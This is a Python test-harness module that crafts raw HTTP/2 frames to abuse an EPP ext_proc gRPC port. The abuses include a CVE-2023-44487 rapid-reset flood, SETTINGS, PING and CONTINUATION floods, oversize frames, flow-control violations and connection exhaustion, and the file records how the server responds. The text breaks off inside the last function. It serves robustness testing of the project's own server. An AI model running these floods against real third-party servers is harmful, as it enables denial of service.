"""Hostile clients of the EPP's ext_proc port, as a pod in the cluster could be.

Each abuse connects straight to the port (TLS with ALPN ``h2``, the EPP's certificate not
verified, as anyone on the pod network can; cleartext prior knowledge with ``tls=False``),
does one thing a hostile or broken client does, and returns a small dict of what it did and
what the server answered: bytes sent, frames received by type, the GOAWAY code if any,
RST_STREAM codes, grpc-status of its streams, whether and when the server closed the
connection. Every abuse is bounded in time (a few seconds, ``timeout`` at most) and closes
every socket it opened, whatever the server does; none of them asserts anything: judging
the answers is the caller's business (tests/reliability/test_listener_abuse.py, ``kvpick
bench epp --abuse``).

Frames are written by hand (:func:`frame`): most of these are frames a well-behaved
library refuses to produce. What the server sends is parsed as it arrives by
:class:`Peer`, which keeps counters only, so that a flood of answers costs the abuser
no memory.

``python -m bench.abuse NAME --port PORT`` runs one abuse and prints its dict as JSON;
:func:`run_process` does that from another process (at a lower CPU priority, so that the
abuser's own work does not take the machine's CPU from the EPP it is measured against).
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import os
import random
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import hpack

from epp.extproc.h2server import _literal  # the same never-indexed literal the server sends

PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
FRAME_NAMES = {
    DATA: "DATA",
    HEADERS: "HEADERS",
    PRIORITY: "PRIORITY",
    RST_STREAM: "RST_STREAM",
    SETTINGS: "SETTINGS",
    PUSH_PROMISE: "PUSH_PROMISE",
    PING: "PING",
    GOAWAY: "GOAWAY",
    WINDOW_UPDATE: "WINDOW_UPDATE",
    CONTINUATION: "CONTINUATION",
}

# Error codes (RFC 9113 §7).
ERROR_NAMES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    10: "CONNECT_ERROR",
    11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY",
    13: "HTTP_1_1_REQUIRED",
}
NO_ERROR, PROTOCOL_ERROR, FLOW_CONTROL_ERROR, FRAME_SIZE_ERROR = 0, 1, 3, 6
REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 7, 8, 9, 11

S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE = 2, 3, 4, 5
DEFAULT_WINDOW = 65_535
FRAME = 16_384
"""The frame size every HTTP/2 peer accepts; the abusers stay at it unless oversize is the
point."""

MB = 1_000_000


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame, exactly as given (no check of any kind)."""
    n = len(payload)
    return (
        bytes((n >> 16 & 0xFF, n >> 8 & 0xFF, n & 0xFF, ftype, flags))
        + (sid & 0xFFFFFFFF).to_bytes(4, "big")
        + payload
    )


def frame_header(ftype: int, flags: int, sid: int, length: int) -> bytes:
    """The 9-byte header of a frame of ``length`` bytes (for frames sent in pieces)."""
    return length.to_bytes(3, "big") + bytes((ftype, flags)) + sid.to_bytes(4, "big")


def header_block(headers: list[tuple[bytes, bytes]]) -> bytes:
    """An HPACK block of literals never indexed, with literal names: it touches no
    compression state, so one block serves any number of streams."""
    return b"".join(_literal(name, value) for name, value in headers)


REQUEST_BLOCK = header_block(
    [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", PROCESS.encode()),
        (b":authority", b"epp"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
)
"""The HEADERS of an ext_proc stream as Envoy opens one."""


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def _pb_len(field: int, payload: bytes) -> bytes:
    out = bytearray(((field << 3) | 2,))
    n = len(payload)
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out) + payload


def request_headers_message(path: str = "/v1/chat/completions") -> bytes:
    """An encoded ``ProcessingRequest`` carrying ``request_headers`` (field 2: HttpHeaders,
    whose HeaderMap has HeaderValues with key 1 and raw_value 3), end_of_stream false: the
    first message Envoy sends on a stream."""
    pairs = [(":method", "POST"), (":path", path), ("content-type", "application/json")]
    values = b"".join(_pb_len(1, _pb_len(1, k.encode()) + _pb_len(3, v.encode())) for k, v in pairs)
    return _pb_len(2, _pb_len(1, values))


def client_context() -> ssl.SSLContext:
    """TLS as any pod can speak it to the EPP: ALPN ``h2``, no certificate checked."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


@dataclass(frozen=True)
class Target:
    """Where the ext_proc port is."""

    port: int
    host: str = "127.0.0.1"
    tls: bool = True


# ------------------------------------------------------------------------------ a peer


class Peer:
    """One raw HTTP/2 client connection. Once :meth:`start_reading` is called, everything
    the server sends is parsed as it arrives into counters (frames by type, GOAWAY,
    RST_STREAM codes, window credits, SETTINGS, decoded header blocks per stream); nothing
    else is kept. Sending never raises: a write the server refuses (or does not take within
    its timeout) makes this and every later send return False.

    The socket is a plain non-blocking one and TLS runs over memory buffers, so a failed
    write (the server reset the connection while we were still sending) does not discard
    what the server sent before its reset: that stays readable, GOAWAY included."""

    def __init__(self, sock: socket.socket, tls: ssl.SSLObject | None = None) -> None:
        self.sock = sock
        self._tls = tls
        self._tls_in = ssl.MemoryBIO()
        self._tls_out = ssl.MemoryBIO()
        self.opened_at = time.monotonic()
        self.sent = 0
        self.received = 0
        self.frames: collections.Counter[str] = collections.Counter()
        self.goaway: tuple[int, int] | None = None  # (last stream id, code)
        self.goaway_at: float | None = None
        self.rst: dict[int, int] = {}
        self.settings: dict[int, int] = {}  # the server's, from its non-ACK SETTINGS
        self.settings_seen = False
        self.conn_credit = 0
        self.stream_credit: collections.Counter[int] = collections.Counter()
        self.headers: dict[int, dict[bytes, bytes]] = {}
        self.ended: set[int] = set()  # streams the server ended (END_STREAM or RST_STREAM)
        self.closed: str | None = None  # how reading ended: "eof", "reset" or "tls-error"
        self.closed_at: float | None = None
        self.write_failed = False
        self.changed = asyncio.Event()
        self._buf = bytearray()
        self._decoder = hpack.Decoder()
        self._block: bytearray | None = None
        self._block_sid = 0
        self._block_end = False
        self._task: asyncio.Task[None] | None = None

    @classmethod
    async def open(
        cls, target: Target, *, preface: bool = True, read: bool = True, timeout: float = 5.0
    ) -> Peer:
        """A connection (TLS handshake done); with ``preface`` the client preface and an
        empty SETTINGS are sent, and with ``read`` as well, reading starts and the server's
        SETTINGS is awaited (up to ``timeout``) and acknowledged, as a client would."""
        loop = asyncio.get_running_loop()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            async with asyncio.timeout(timeout):
                await loop.sock_connect(sock, (target.host, target.port))
                peer = cls(sock)
                if target.tls:
                    await peer._handshake()
        except BaseException:
            sock.close()
            raise
        peer.opened_at = time.monotonic()
        if preface:
            await peer.send(PREFACE + frame(SETTINGS, 0, 0))
            if read:
                peer.start_reading()
                await peer.wait(lambda: peer.settings_seen, timeout)
                if peer.settings_seen:
                    await peer.send(frame(SETTINGS, ACK, 0))
        elif read:
            peer.start_reading()
        return peer

    async def _handshake(self) -> None:
        loop = asyncio.get_running_loop()
        tls = client_context().wrap_bio(self._tls_in, self._tls_out, server_hostname="localhost")
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                out = self._tls_out.read()
                if out:
                    await loop.sock_sendall(self.sock, out)
                data = await loop.sock_recv(self.sock, 1 << 16)
                if not data:
                    raise ConnectionError("closed during the TLS handshake") from None
                self._tls_in.write(data)
        out = self._tls_out.read()
        if out:
            await loop.sock_sendall(self.sock, out)
        self._tls = tls

    # ----------------------------------------------------------------- reading

    def start_reading(self) -> None:
        if self._task is None:
            self._task = asyncio.ensure_future(self._read_loop())

    async def _read_loop(self) -> None:
        loop = asyncio.get_running_loop()
        while self.closed is None:
            try:
                data = await loop.sock_recv(self.sock, 1 << 16)
            except OSError:  # ECONNRESET and the like
                self._mark_closed("reset")
                return
            if self._tls is not None:
                if data:
                    self._tls_in.write(data)
                else:
                    self._tls_in.write_eof()
                data_plain = self._decrypt()
                if data_plain:
                    self._take(data_plain)
                if self.closed == "eof" and data:
                    await self._answer_close_notify()
                if not data and self.closed is None:
                    self._mark_closed("eof")
            elif data:
                self._take(data)
            else:
                self._mark_closed("eof")

    def _decrypt(self) -> bytes:
        assert self._tls is not None
        out = bytearray()
        while True:
            try:
                chunk = self._tls.read(1 << 16)
            except ssl.SSLWantReadError:
                break
            except ssl.SSLError:
                self._mark_closed("tls-error")
                break
            if not chunk:  # the server's close_notify
                self._mark_closed("eof")
                break
            out += chunk
        return bytes(out)

    async def _answer_close_notify(self) -> None:
        """Answers the server's close_notify with ours, as TLS clients do (the server's
        side may wait for it before it lets the connection go)."""
        assert self._tls is not None
        with contextlib.suppress(ssl.SSLError):
            self._tls.unwrap()
        out = self._tls_out.read()
        if out and not self.write_failed:
            with contextlib.suppress(OSError, TimeoutError):
                loop = asyncio.get_running_loop()
                await asyncio.wait_for(loop.sock_sendall(self.sock, out), 1.0)

    def _take(self, data: bytes) -> None:
        self.received += len(data)
        self._buf += data
        self._parse()
        self.changed.set()

    def _mark_closed(self, how: str) -> None:
        if self.closed is None:
            self.closed = how
            self.closed_at = time.monotonic()
        self.changed.set()

    def _parse(self) -> None:
        buf = self._buf
        pos = 0
        while len(buf) - pos >= 9:
            length = buf[pos] << 16 | buf[pos + 1] << 8 | buf[pos + 2]
            if len(buf) - pos - 9 < length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9 : pos + 9 + length])
            pos += 9 + length
            self._frame(ftype, flags, sid, payload)
        del buf[:pos]

    def _frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        self.frames[FRAME_NAMES.get(ftype, f"type{ftype}")] += 1
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key = int.from_bytes(payload[i : i + 2], "big")
                self.settings[key] = int.from_bytes(payload[i + 2 : i + 6], "big")
            self.settings_seen = True
        elif ftype == GOAWAY and len(payload) >= 8:
            if self.goaway is None:
                self.goaway_at = time.monotonic()
            last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            self.goaway = (last, int.from_bytes(payload[4:8], "big"))
        elif ftype == RST_STREAM and len(payload) == 4:
            self.rst[sid] = int.from_bytes(payload, "big")
            self.ended.add(sid)
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_credit += inc
            else:
                self.stream_credit[sid] += inc
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                self._block, self._block_sid = bytearray(payload), sid
                self._block_end = bool(flags & END_STREAM)
            elif self._block is not None:
                self._block += payload
            if flags & END_HEADERS and self._block is not None:
                block, self._block = bytes(self._block), None
                try:
                    pairs = self._decoder.decode(block, raw=True)
                except Exception:  # a server bug to report, not to crash the abuser on
                    pairs = [(b"x-abuse-undecodable", b"1")]
                self.headers.setdefault(self._block_sid, {}).update(dict(pairs))
                if self._block_end:
                    self.ended.add(self._block_sid)
        elif ftype == DATA and flags & END_STREAM:
            self.ended.add(sid)

    async def wait(self, done: Callable[[], bool], timeout: float) -> bool:
        """Waits until ``done()`` or the connection is closed, at most ``timeout`` s;
        returns ``done()``."""
        deadline = time.monotonic() + timeout
        while not done() and self.closed is None:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.changed.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.changed.wait(), left)
        return done()

    async def settle(self, timeout: float) -> None:
        """Reads until the server closes the connection, at most ``timeout`` seconds."""
        self.start_reading()
        await self.wait(lambda: False, timeout)

    # ----------------------------------------------------------------- sending

    async def send(self, data: bytes, timeout: float = 5.0) -> bool:
        """Writes ``data``, waiting at most ``timeout`` seconds for the socket to take it."""
        if self.write_failed:
            return False
        raw = data
        if self._tls is not None:
            try:
                self._tls.write(data)
            except ssl.SSLError:  # the TLS session is shut down (the server closed it)
                self.write_failed = True
                return False
            raw = self._tls_out.read()
        try:
            await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(self.sock, raw), timeout)
        except (TimeoutError, OSError):
            # Refused, or not taken in time (the server stopped reading); after a partial
            # write the TLS records are cut, so nothing more can be sent either way.
            self.write_failed = True
            return False
        self.sent += len(data)
        return True

    def window(self, sid: int, sent_on_stream: int, sent_total: int) -> int:
        """What the server's windows let us send now on ``sid``, given what we sent."""
        stream = self.settings.get(S_INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
        stream += self.stream_credit[sid] - sent_on_stream
        conn = DEFAULT_WINDOW + self.conn_credit - sent_total
        return min(stream, conn)

    def close(self) -> None:
        """Stops reading and closes the socket at once (no TLS close_notify)."""
        if self._task is not None:
            self._task.cancel()
        fd = self.sock.fileno()
        if fd >= 0:
            # Unregistered now, not when the cancelled reads and writes are processed:
            # the descriptor may be reused by the next socket before then.
            loop = asyncio.get_running_loop()
            loop.remove_reader(fd)
            loop.remove_writer(fd)
        self.sock.close()

    # ----------------------------------------------------------------- results

    def grpc_status(self, sid: int) -> int | None:
        value = self.headers.get(sid, {}).get(b"grpc-status")
        return int(value) if value is not None and value.isdigit() else None

    def summary(self) -> dict[str, Any]:
        """What the server did on this connection, JSON-ready."""
        code = self.goaway[1] if self.goaway is not None else None
        out: dict[str, Any] = {
            "bytes_sent": self.sent,
            "write_failed": self.write_failed,
            "bytes_received": self.received,
            "frames_received": dict(self.frames),
            "goaway": ERROR_NAMES.get(code, str(code)) if code is not None else None,
            "goaway_code": code,
            "server_closed": self.closed is not None,
            "closed_how": self.closed,
        }
        if self.goaway is not None:
            out["goaway_last_stream"] = self.goaway[0]
        if self.closed_at is not None:
            out["closed_after_s"] = round(self.closed_at - self.opened_at, 3)
        if self.rst:
            out["rst_codes"] = _names(collections.Counter(self.rst.values()))
        return out


def _names(counts: collections.Counter[int]) -> dict[str, int]:
    return {ERROR_NAMES.get(k, str(k)): v for k, v in sorted(counts.items())}


async def _open_stream(peer: Peer, sid: int = 1) -> bool:
    return await peer.send(frame(HEADERS, END_HEADERS, sid, REQUEST_BLOCK))


async def _send_chunks(peer: Peer, chunks: Any, deadline: float) -> int:
    """Sends byte strings from ``chunks`` until they run out, the connection fails or the
    deadline passes; returns how many were sent."""
    n = 0
    for chunk in chunks:
        left = deadline - time.monotonic()
        if left <= 0 or not await peer.send(chunk, timeout=left):
            break
        n += 1
    return n


# ------------------------------------------------------------------------------ abuses


async def zeros(t: Target, *, total: int = 3 * MB, timeout: float = 20.0) -> dict[str, Any]:
    """``total`` zero bytes of DATA on one ext_proc stream (``total / 5`` empty gRPC
    messages: each decodes as an empty ProcessingRequest), within the server's windows,
    END_STREAM on the last frame. Waits for the stream's end."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        deadline = started + timeout
        await _open_stream(peer)
        zero = bytes(FRAME)
        sent = 0
        while sent < total and peer.closed is None and 1 not in peer.ended:
            room = peer.window(1, sent, sent)
            if room <= 0:  # wait for the server's WINDOW_UPDATE, as a client must
                if not await peer.wait(
                    lambda sent=sent: peer.window(1, sent, sent) > 0, deadline - time.monotonic()
                ):
                    break
                continue
            n = min(FRAME, room, total - sent)
            last = sent + n == total
            if not await peer.send(frame(DATA, END_STREAM if last else 0, 1, zero[:n])):
                break
            sent += n
        sent_at = time.monotonic()
        await peer.wait(lambda: 1 in peer.ended, deadline - time.monotonic())
        out = {
            "data_bytes": sent,
            "empty_messages": sent // 5,
            "send_s": round(sent_at - started, 3),
            "stream_ended": 1 in peer.ended,
            "grpc_status": peer.grpc_status(1),
            "grpc_message": peer.headers.get(1, {}).get(b"grpc-message", b"").decode("latin-1"),
            "stream_rst": ERROR_NAMES.get(peer.rst[1]) if 1 in peer.rst else None,
        }
        if 1 in peer.ended:
            out["stream_end_s"] = round(time.monotonic() - started, 3)
        return out | peer.summary()
    finally:
        peer.close()


async def past_window(
    t: Target, *, extra: int = 3_200_000, timeout: float = 15.0
) -> dict[str, Any]:
    """DATA (zero bytes) on one stream up to the windows the server advertised at the
    start, then ``extra`` bytes more, without waiting for any WINDOW_UPDATE. Reports how
    much the server had granted by the end (advertised windows plus every credit it sent):
    where ``data_bytes`` is over ``granted_bytes``, the server received DATA it never
    allowed and RFC 9113 §6.9.1 makes that a FLOW_CONTROL_ERROR."""
    peer = await Peer.open(t)
    try:
        # The server's connection WINDOW_UPDATE, if any, comes with its SETTINGS.
        await peer.wait(lambda: peer.conn_credit > 0, 0.5)
        advertised = peer.window(1, 0, 0)
        conn_credit0 = peer.conn_credit
        started = time.monotonic()
        deadline = started + timeout
        await _open_stream(peer)
        total = advertised + extra
        zero = frame(DATA, 0, 1, bytes(FRAME))
        count = -(-total // FRAME)  # whole frames, at least ``total`` bytes
        sizes = [min(16, count - i) for i in range(0, count, 16)]
        n = await _send_chunks(peer, (zero * k for k in sizes), deadline)
        data_sent = sum(sizes[:n]) * FRAME
        await peer.settle(min(3.0, max(0.5, deadline - time.monotonic())))
        codes = [c for c in (peer.rst.get(1), peer.goaway[1] if peer.goaway else None) if c]
        granted = DEFAULT_WINDOW + peer.conn_credit
        if 1 not in peer.ended:
            # Once the server has ended the stream only the connection window counts
            # (RFC 9113 §6.4: DATA after RST_STREAM still counts toward it); before, the
            # stream's too.
            stream = peer.settings.get(S_INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
            granted = min(granted, stream + peer.stream_credit[1])
        return {
            "advertised_window": advertised,
            "advertised_connection_credit": conn_credit0,
            "data_bytes": data_sent,
            "past_advertised_bytes": max(0, data_sent - advertised),
            "granted_bytes": granted,
            "stream_ended_by_server": 1 in peer.ended,
            "past_granted_bytes": max(0, data_sent - granted),
            "flow_control_error": FLOW_CONTROL_ERROR in codes,
            "stream_rst": ERROR_NAMES.get(peer.rst[1]) if 1 in peer.rst else None,
            "grpc_status": peer.grpc_status(1),
            "send_s": round(time.monotonic() - started, 3),
        } | peer.summary()
    finally:
        peer.close()


async def rapid_reset(t: Target, *, streams: int = 20_000, timeout: float = 10.0) -> dict[str, Any]:
    """``streams`` streams opened (HEADERS and a request_headers message) and each reset
    at once (RST_STREAM CANCEL), all written back to back: CVE-2023-44487."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        msg = frame(DATA, 0, 0, grpc_message(request_headers_message()))
        pairs = []
        for i in range(streams):
            sid = 2 * i + 1
            sid_bytes = sid.to_bytes(4, "big")
            pairs.append(
                frame(HEADERS, END_HEADERS, sid, REQUEST_BLOCK)
                + msg[:5]
                + sid_bytes
                + msg[9:]
                + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big"))
            )
        per = 500
        chunks = (b"".join(pairs[i : i + per]) for i in range(0, streams, per))
        sent_chunks = await _send_chunks(peer, chunks, started + timeout)
        sent_s = time.monotonic() - started
        await peer.settle(min(2.0, max(0.5, started + timeout - time.monotonic())))
        return {
            "streams_reset": min(streams, sent_chunks * per),
            "send_s": round(sent_s, 3),
        } | peer.summary()
    finally:
        peer.close()


async def settings_flood(
    t: Target, *, count: int = 100_000, timeout: float = 10.0
) -> dict[str, Any]:
    """``count`` SETTINGS frames (ENABLE_PUSH 0, as a client may say), back to back, while
    reading what comes back."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        one = frame(SETTINGS, 0, 0, S_ENABLE_PUSH.to_bytes(2, "big") + (0).to_bytes(4, "big"))
        per = 5000
        chunks = (one * min(per, count - i) for i in range(0, count, per))
        n = await _send_chunks(peer, chunks, started + timeout)
        sent_s = time.monotonic() - started
        await peer.settle(min(2.0, max(0.5, started + timeout - time.monotonic())))
        return {
            "settings_sent": min(count, n * per),
            "send_s": round(sent_s, 3),
            # the one acknowledging the server's own SETTINGS was ours, not the server's
            "settings_frames_received": peer.frames["SETTINGS"],
        } | peer.summary()
    finally:
        peer.close()


async def ping_flood(t: Target, *, count: int = 200_000, timeout: float = 10.0) -> dict[str, Any]:
    """``count`` PINGs written without reading any answer (the ACKs pile up in the
    server, unless it refuses); then what came back is read."""
    peer = await Peer.open(t, read=False)
    try:
        started = time.monotonic()
        per = 5000
        chunks = (
            b"".join(
                frame(PING, 0, 0, (i + k).to_bytes(8, "big")) for k in range(min(per, count - i))
            )
            for i in range(0, count, per)
        )
        n = await _send_chunks(peer, chunks, started + timeout)
        sent_s = time.monotonic() - started
        await peer.settle(min(3.0, max(1.0, started + timeout - time.monotonic())))
        return {
            "pings_sent": min(count, n * per),
            "send_s": round(sent_s, 3),
            "ping_acks": peer.frames["PING"],
        } | peer.summary()
    finally:
        peer.close()


async def continuation_flood(
    t: Target, *, total: int = 32 * 1 << 20, timeout: float = 10.0
) -> dict[str, Any]:
    """A HEADERS frame without END_HEADERS, then ``total`` bytes of CONTINUATION frames that
    never end the header block: the server must give up on the block, not keep it."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        await peer.send(frame(HEADERS, 0, 1, REQUEST_BLOCK[:20]))
        cont = frame(CONTINUATION, 0, 1, b"\x10\x01a\x7f" + b"a" * (FRAME - 4))
        per = 16
        frames = total // FRAME
        chunks = (cont * min(per, frames - i) for i in range(0, frames, per))
        n = await _send_chunks(peer, chunks, started + timeout)
        sent_s = time.monotonic() - started
        await peer.settle(min(2.0, max(0.5, started + timeout - time.monotonic())))
        return {
            "continuation_bytes": min(frames, n * per) * FRAME,
            "send_s": round(sent_s, 3),
        } | peer.summary()
    finally:
        peer.close()


async def big_frame(
    t: Target, *, length: int = (1 << 24) - 1, timeout: float = 10.0
) -> dict[str, Any]:
    """One DATA frame of ``length`` bytes (16 MiB less one, the most a frame header can
    say) on an open stream, far over the SETTINGS_MAX_FRAME_SIZE the server announced."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        await _open_stream(peer)
        await peer.send(frame_header(DATA, 0, 1, length))
        piece = bytes(1 << 16)
        count = length // len(piece)
        chunks = (piece for _ in range(count))
        n = await _send_chunks(peer, chunks, started + timeout)
        sent_s = time.monotonic() - started
        await peer.settle(min(2.0, max(0.5, started + timeout - time.monotonic())))
        codes = [c for c in (peer.rst.get(1), peer.goaway[1] if peer.goaway else None) if c]
        return {
            "frame_length": length,
            "server_max_frame_size": peer.settings.get(S_MAX_FRAME_SIZE, FRAME),
            "payload_bytes_sent": n * len(piece),
            "frame_size_error": FRAME_SIZE_ERROR in codes,
            "send_s": round(sent_s, 3),
        } | peer.summary()
    finally:
        peer.close()


async def many_streams(
    t: Target, *, streams: int = 5000, hold: float = 2.0, timeout: float = 15.0
) -> dict[str, Any]:
    """``streams`` ext_proc streams opened on one connection (HEADERS and a
    request_headers message each, as Envoy starts a request) and held open for ``hold``
    seconds; then a PING, to see that the connection still answers."""
    peer = await Peer.open(t)
    try:
        started = time.monotonic()
        msg = grpc_message(request_headers_message())
        opens = [
            frame(HEADERS, END_HEADERS, 2 * i + 1, REQUEST_BLOCK) + frame(DATA, 0, 2 * i + 1, msg)
            for i in range(streams)
        ]
        per = 250
        chunks = (b"".join(opens[i : i + per]) for i in range(0, streams, per))
        n = await _send_chunks(peer, chunks, started + timeout)
        opened_s = time.monotonic() - started
        await peer.wait(lambda: False, min(hold, max(0.0, started + timeout - time.monotonic())))
        pings_before = peer.frames["PING"]
        await peer.send(frame(PING, 0, 0, b"12345678"))
        answered = await peer.wait(lambda: peer.frames["PING"] > pings_before, 3.0)
        return {
            "streams_opened": min(streams, n * per),
            "open_s": round(opened_s, 3),
            "server_max_concurrent_streams": peer.settings.get(S_MAX_CONCURRENT_STREAMS),
            "streams_reset_by_server": len(peer.rst),
            "streams_ended_by_server": len(peer.ended),
            "ping_answered_after": answered,
        } | peer.summary()
    finally:
        peer.close()


async def _open_many(
    count: int, opener: Callable[[], Awaitable[Any]], concurrency: int
) -> tuple[list[Any], int]:
    sem = asyncio.Semaphore(concurrency)
    failed = 0

    async def one() -> Any:
        nonlocal failed
        async with sem:
            try:
                return await opener()
            except (OSError, ssl.SSLError, TimeoutError):
                failed += 1
                return None

    got = await asyncio.gather(*(one() for _ in range(count)))
    return [g for g in got if g is not None], failed


def _close_stats(opened: list[float], closed: list[float | None]) -> dict[str, Any]:
    after = [c - o for o, c in zip(opened, closed, strict=True) if c is not None]
    out: dict[str, Any] = {"closed_by_server": len(after)}
    if after:
        out["closed_after_s_min"] = round(min(after), 3)
        out["closed_after_s_max"] = round(max(after), 3)
    return out


async def idle_tls(
    t: Target, *, connections: int = 800, hold: float = 3.0, concurrency: int = 32
) -> dict[str, Any]:
    """``connections`` TLS connections, each an idle but correct HTTP/2 client (handshake,
    preface, SETTINGS exchanged, no stream), all held open ``hold`` seconds after the last
    one opened, then closed. Reports how many the server closed meanwhile and when, and
    the first GOAWAY each got and when."""
    started = time.monotonic()

    async def opener() -> Peer:
        return await Peer.open(t, timeout=10.0)

    peers, failed = await _open_many(connections, opener, concurrency)
    open_s = time.monotonic() - started
    try:
        await asyncio.sleep(hold)
        goaways = collections.Counter(p.goaway[1] for p in peers if p.goaway is not None)
        first = [p.goaway_at - p.opened_at for p in peers if p.goaway_at is not None]
        timing = {}
        if first:
            timing = {
                "goaway_after_s_min": round(min(first), 3),
                "goaway_after_s_max": round(max(first), 3),
            }
        return {
            "connections": len(peers),
            "failed": failed,
            "open_s": round(open_s, 3),
            "held_s": hold,
            "goaways": _names(goaways),
            **timing,
        } | _close_stats(
            [p.opened_at for p in peers],
            [p.closed_at if p.closed is not None else None for p in peers],
        )
    finally:
        for p in peers:
            p.close()


async def no_hello(
    t: Target, *, connections: int = 300, hold: float = 4.0, concurrency: int = 64
) -> dict[str, Any]:
    """``connections`` TCP connections that never send a TLS ClientHello (nor anything
    else), held ``hold`` seconds. Reports how many the server closed, and when."""
    started = time.monotonic()
    closed_at: dict[int, float] = {}

    async def opener() -> tuple[asyncio.StreamReader, asyncio.StreamWriter, float]:
        async with asyncio.timeout(10):
            reader, writer = await asyncio.open_connection(t.host, t.port)
        return reader, writer, time.monotonic()

    conns, failed = await _open_many(connections, opener, concurrency)
    open_s = time.monotonic() - started

    async def watch(i: int, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(ConnectionError, OSError):
            await reader.read(1 << 16)  # the server sends nothing before a ClientHello
        closed_at[i] = time.monotonic()

    watchers = [asyncio.ensure_future(watch(i, c[0])) for i, c in enumerate(conns)]
    try:
        await asyncio.sleep(hold)
        return {
            "connections": len(conns),
            "failed": failed,
            "open_s": round(open_s, 3),
            "held_s": hold,
        } | _close_stats([c[2] for c in conns], [closed_at.get(i) for i in range(len(conns))])
    finally:
        for w in watchers:
            w.cancel()
        for _, writer, _ in conns:
            writer.transport.abort()


GARBAGE_PREFACES = {
    "http1": b"POST /envoy.service.ext_proc.v3.ExternalProcessor/Process HTTP/1.1\r\n"
    b"host: epp\r\ncontent-length: 5\r\n\r\nhello",
    "random": bytes(random.Random(7).randrange(256) for _ in range(512)),
    "one-byte-off": PREFACE[:-1] + b"X" + frame(SETTINGS, 0, 0),
    "http2-0-misspelt": b"PRI * HTTP/2.1\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0),
    "frames-without-preface": frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"12345678"),
}


async def garbage_preface(t: Target, *, per_case: int = 10, timeout: float = 3.0) -> dict[str, Any]:
    """Connections (``per_case`` for each kind of :data:`GARBAGE_PREFACES`) that send
    something else than the HTTP/2 client preface. RFC 9113 §3.4: a connection error
    PROTOCOL_ERROR (the GOAWAY may be left out). Reports, per kind, how the connections
    ended."""
    cases: dict[str, Any] = {}
    for name, data in GARBAGE_PREFACES.items():
        peers, failed = await _open_many(
            per_case, lambda: Peer.open(t, preface=False, timeout=timeout), per_case
        )
        try:
            for p in peers:
                await p.send(data)
            await asyncio.gather(*(p.settle(timeout) for p in peers))
            goaways = collections.Counter(p.goaway[1] for p in peers if p.goaway is not None)
            cases[name] = {
                "connections": len(peers),
                "failed": failed,
                "goaways": _names(goaways),
                "frames_received": sum(sum(p.frames.values()) for p in peers),
            } | _close_stats(
                [p.opened_at for p in peers],
                [p.closed_at if p.closed is not None else None for p in peers],
            )
        finally:
            for p in peers:
                p.close()
    return {
        "connections": sum(c["connections"] for c in cases.values()),
        "closed_by_server": sum(c["closed_by_server"] for c in cases.values()),
        "cases": cases,
    }


def _random_frame(rng: random.Random) -> bytes:
    ftype = rng.choice((*range(10), *range(10), 0x0A, 0x10, 0xFF))
    sid = rng.choice((0, 0, 1, 2, 3, 5, 7, 0x7FFFFFFF, rng.randrange(1 << 31)))
    payload = bytes(rng.randrange(256) for _ in range(rng.choice((0, 1, 4, 5, 6, 8, 12, 40))))
    return frame(ftype, rng.randrange(256), sid, payload)


async def garbage_frames(
    t: Target,
    *,
    connections: int = 60,
    frames: int = 40,
    unknown: int = 5000,
    seed: int = 19,
    concurrency: int = 10,
    timeout: float = 3.0,
) -> dict[str, Any]:
